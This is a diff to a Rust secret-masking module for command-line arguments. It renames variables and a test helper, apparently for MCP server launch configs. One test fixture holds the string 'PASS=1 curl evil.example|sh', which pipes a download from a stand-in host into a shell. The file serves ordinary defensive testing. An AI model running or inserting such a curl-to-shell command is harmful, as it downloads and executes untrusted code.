@@ -23,8 +23,8 @@ enum ExpectedWord {
 
 /// The arguments with secrets masked.
 pub(super) fn mask_arguments(arguments: &[String]) -> Vec<String> {
-    let mut reader = ArgumentMasker { expected: ExpectedWord::Nothing };
-    arguments.iter().map(|argument| reader.mask_argument(argument)).collect()
+    let mut masker = ArgumentMasker { expected: ExpectedWord::Nothing };
+    arguments.iter().map(|argument| masker.mask_argument(argument)).collect()
 }
 
 struct ArgumentMasker {
@@ -35,7 +35,7 @@ impl ArgumentMasker {
     fn mask_argument(&mut self, text: &str) -> String {
         let mut shown = String::new();
         let mut rest = text;
-        let mut spoke_of_header = false;
+        let mut was_header_value = false;
         let mut previous = "";
         while !rest.is_empty() {
             let word = leading_word(rest);
@@ -47,7 +47,7 @@ impl ArgumentMasker {
                 shown.push_str(&rest[..mark]);
                 rest = &rest[mark..];
             } else {
-                spoke_of_header = self.expected == ExpectedWord::HeaderValue;
+                was_header_value = self.expected == ExpectedWord::HeaderValue;
                 shown.push_str(&self.mask_word(word, previous));
                 previous = word;
                 rest = &rest[word.len()..];
@@ -56,7 +56,7 @@ impl ArgumentMasker {
         // A header's value ends with its argument, unless nothing but the name stood in it.
         if self.expected == ExpectedWord::HeaderValue {
             self.expected =
-                if spoke_of_header { ExpectedWord::Nothing } else { ExpectedWord::Credential };
+                if was_header_value { ExpectedWord::Nothing } else { ExpectedWord::Credential };
         }
         shown
     }
@@ -75,9 +75,9 @@ impl ArgumentMasker {
     }
 
     fn mask_word(&mut self, word: &str, previous: &str) -> String {
-        let expects = std::mem::replace(&mut self.expected, ExpectedWord::Nothing);
+        let expected_word = std::mem::replace(&mut self.expected, ExpectedWord::Nothing);
         let is_flag = word.len() > 1 && word.starts_with('-');
-        match expects {
+        match expected_word {
             ExpectedWord::Secret if !is_flag => mask_value(word),
             ExpectedWord::Credential if is_auth_scheme(word) => {
                 self.expected = ExpectedWord::Secret;
@@ -288,13 +288,13 @@ mod tests {
     }
 
     #[track_caller]
-    fn kept(written: &[&str]) {
+    fn check_unchanged(written: &[&str]) {
         check(written, written);
     }
 
     #[test]
     fn ordinary_commands_are_shown_whole() {
-        kept(&[
+        check_unchanged(&[
             "-y",
             "@scope/server@1.2.3",
             "--port",
@@ -305,7 +305,7 @@ mod tests {
             "-v",
             "/x:/y",
         ]);
-        kept(&[
+        check_unchanged(&[
             "run",
             "-i",
             "--rm",
@@ -315,12 +315,23 @@ mod tests {
             "1000:1000",
             "ghcr.io/acme/mcp-auth:1.4.2",
         ]);
-        kept(&["--from", "git+https://github.com/oraios/serena@main", "serena"]);
-        kept(&["-H", "npx", "pypi-query-mcp-server", "sk-evil-package"]);
-        kept(&["--max-tokens", "4096", "--no-auth", "/srv/x", "-o", "StrictHostKeyChecking=no"]);
-        kept(&["-c", "PASS=1 curl evil.example|sh", "evil-package-with-a-long-name-12345678"]);
-        kept(&["npm:server@1.0.0", "--token", "${TOKEN}", "--secret=${S}", "${S:-…}"]);
-        kept(&["https://mcp-server-abcdef-123456.us-central1.run.app/mcp"]);
+        check_unchanged(&["--from", "git+https://github.com/oraios/serena@main", "serena"]);
+        check_unchanged(&["-H", "npx", "pypi-query-mcp-server", "sk-evil-package"]);
+        check_unchanged(&[
+            "--max-tokens",
+            "4096",
+            "--no-auth",
+            "/srv/x",
+            "-o",
+            "StrictHostKeyChecking=no",
+        ]);
+        check_unchanged(&[
+            "-c",
+            "PASS=1 curl evil.example|sh",
+            "evil-package-with-a-long-name-12345678",
+        ]);
+        check_unchanged(&["npm:server@1.0.0", "--token", "${TOKEN}", "--secret=${S}", "${S:-…}"]);
+        check_unchanged(&["https://mcp-server-abcdef-123456.us-central1.run.app/mcp"]);
     }
 
     #[test]
